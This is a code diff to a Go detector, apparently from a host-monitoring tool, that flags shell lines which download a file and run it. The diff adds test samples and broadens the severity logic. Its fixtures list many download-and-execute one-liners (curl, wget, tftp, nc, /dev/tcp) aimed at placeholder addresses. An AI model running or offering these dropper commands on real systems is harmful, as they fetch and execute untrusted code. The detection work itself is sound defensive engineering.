@@ -18,7 +18,7 @@ var runFetch = Detector{
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
 		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "npx https://example.com/pkg.tgz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q", "aria2c -d /tmp -o x http://203.0.113.7/x && sh /tmp/x", "tftp 203.0.113.7 -c get x /tmp/x; sh /tmp/x", "whois -h 203.0.113.7 -p 8443 x > /tmp/x.out", "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
-	), Sample{Level: coi.High, Line: "wget http://203.0.113.7/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/a.tgz | tar xz -C /dev/shm && /dev/shm/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/b -o /dev/shm/b && chmod +x /dev/shm/b && nohup /dev/shm/b &"}, Sample{Level: coi.Warning, Events: []event.Event{
+	), Sample{Level: coi.High, Line: "wget http://203.0.113.7/b.sh; chmod 777 b.sh; sh b.sh; rm -f b.sh"}, Sample{Level: coi.High, Line: "tftp -g -r m 203.0.113.7; chmod 777 m; ./m"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/a.tgz | tar xz -C /dev/shm && /dev/shm/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/b -o /dev/shm/b && chmod +x /dev/shm/b && nohup /dev/shm/b &"}, Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
 		{Type: event.Write, PID: 6, Path: "/tmp/z", Op: "write"},
@@ -50,14 +50,14 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 			return one(*say(s, coi.Warning, "file fetched by "+s.Name).to(outHost(s)))
 		}
 		p := ranFile(s)
-		if unpacked != nil && strings.HasPrefix(p, dir+"/") && fetchLevel(unpacked, p) == coi.High {
+		if unpacked != nil && strings.HasPrefix(p, dir+"/") && fetchLevel(unpacked) == coi.High {
 			return one(*say(s, coi.High, "file fetched in the same line is run").at(p, command.Exec))
 		}
 		if d, from := unpackedTo(s); from != nil {
 			dir, unpacked = d, from
 		}
 		if got[p] != nil {
-			return one(*say(s, fetchLevel(got[p], p), "file fetched in the same line is run").at(p, command.Exec))
+			return one(*say(s, fetchLevel(got[p]), "file fetched in the same line is run").at(p, command.Exec))
 		}
 		for _, p := range fetchedFiles(s) {
 			if p != "" {
@@ -68,12 +68,14 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 	return nil
 }
 
-// fetchLevel is high when nobody stands behind the source and the file is put
-// where nobody looks.
-func fetchLevel(d *command.Simple, file string) coi.Level {
-	hidden := strings.HasPrefix(base(file), ".") || hasPrefixAny(file, "/tmp/", "/var/tmp/", "/dev/shm/", "/run/")
-	for _, h := range d.Hosts() {
-		if hidden && d.Class() == program.Downloader && !command.Loopback(h) && (bareAddress(h) || dropHost(h)) {
+// fetchLevel is high when nobody stands behind the source.
+func fetchLevel(d *command.Simple) coi.Level {
+	hosts := d.Hosts()
+	if d.Is("tftp", "ftpget") {
+		hosts = d.Argv[1:]
+	}
+	for _, h := range hosts {
+		if (d.Class() == program.Downloader || d.Class() == program.Relay || d.Class() == program.Uploader && !d.Is("scp", "rsync", "sftp") || d.Name == "ftpget") && !command.Loopback(h) && (bareAddress(h) || dropHost(h)) {
 			return coi.High
 		}
 	}
